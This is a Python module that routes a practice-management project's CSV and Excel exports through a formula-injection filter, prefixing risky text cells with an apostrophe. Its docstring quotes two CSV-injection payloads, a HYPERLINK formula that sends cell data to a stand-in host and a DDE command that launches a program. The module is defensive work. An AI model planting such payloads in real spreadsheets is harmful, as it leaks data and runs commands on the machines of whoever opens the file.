"""The one place every CSV or Excel file the project writes goes through.

Why: names, notes and file contents come from the practice's systems (and so
from anyone who can type into them).  A cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://x/?"&A1,"click")`` sends
the neighbouring cell away; ``+cmd|' /C calc'!A0`` runs a program), so every
such *text* cell is neutralised as the OWASP "CSV injection" guidance says:
a leading apostrophe makes the spreadsheet show the text as text.

Numeric cells stay numeric (a negative charge is a number, not a formula), and
so does text that is nothing but a plain signed number ("-5", "+1.25"), which
no spreadsheet evaluates as a formula.  Used by the page downloads
(``ui/exports.py``), the audit exports (``ccm_core/io/exports.py``), the import
problem/rejected-row files and the command-line CSV outputs.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Mapping
from typing import IO, Any

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# RFC 4180 line ends: with them the writer quotes any field holding a CR or LF, so a stray carriage return
# inside a note cannot split a row in two (with a bare "\n" ending, a field with a lone "\r" goes unquoted).
EOL = "\r\n"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula, prefixed with ``'``; anything else unchanged."""
    if isinstance(value, str) and value[:1] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell (and column header) neutralised; numeric columns untouched."""
    out = df.copy()
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    for col in range(out.shape[1]):
        series = out.iloc[:, col]
        if (
            series.dtype == object
            or isinstance(series.dtype, pd.StringDtype)
            or isinstance(series.dtype, pd.CategoricalDtype)
        ):
            out.isetitem(col, series.astype(object).map(neutralise))
    return out


def csv_bytes(df: pd.DataFrame, *, bom: bool = True) -> bytes:
    """The frame as CSV, neutralised; UTF-8 with a BOM by default so Excel opens it correctly."""
    return neutralise_frame(df).to_csv(index=False, lineterminator=EOL).encode("utf-8-sig" if bom else "utf-8")


def write_csv(df: pd.DataFrame, out: IO[str]) -> None:
    """The frame as CSV text to an open text stream (the command-line outputs), neutralised."""
    neutralise_frame(df).to_csv(out, index=False, lineterminator=EOL)


def write_csv_records(records: Iterable[Mapping[str, Any]], fieldnames: list[str], out: IO[str]) -> None:
    """Dict rows as CSV (None as empty), each text value neutralised."""
    w = csv.DictWriter(out, fieldnames=fieldnames, lineterminator=EOL)
    w.writeheader()
    for rec in records:
        w.writerow({k: "" if v is None else neutralise(v) for k, v in rec.items()})


def _excel_ready(df: pd.DataFrame) -> pd.DataFrame:
    out = neutralise_frame(df)
    for col in range(out.shape[1]):
        series = out.iloc[:, col]
        if isinstance(series.dtype, pd.DatetimeTZDtype):  # Excel cannot store timezone-aware datetimes
            out.isetitem(col, series.dt.tz_localize(None))
        elif series.dtype == object:  # dates inside object columns as ISO text, as on screen
            out.isetitem(
                col,
                series.map(
                    lambda v: (
                        v.isoformat(sep=" ")
                        if isinstance(v, dt.datetime)
                        else v.isoformat()
                        if isinstance(v, dt.date)
                        else v
                    )
                ),
            )
    return out


def excel_bytes(sheets: Mapping[str, pd.DataFrame], *, max_width: int = 60) -> bytes:
    """An .xlsx workbook with one sheet per frame (header row frozen, columns sized), every text cell neutralised.

    Cells are written as values, never formulas: after neutralising, no text cell starts with a trigger.
    """
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            sheet_name = str(name)[:31] or "data"
            clean = _excel_ready(frame)
            clean.to_excel(writer, index=False, sheet_name=sheet_name)
            ws = writer.sheets[sheet_name]
            for idx, col in enumerate(clean.columns, start=1):
                values = [len(str(v)) for v in clean.iloc[:, idx - 1].head(200)]
                width = max([len(str(col))] + values) + 2
                ws.column_dimensions[ws.cell(row=1, column=idx).column_letter].width = min(max_width, width)
            ws.freeze_panes = "A2"
    return buf.getvalue()
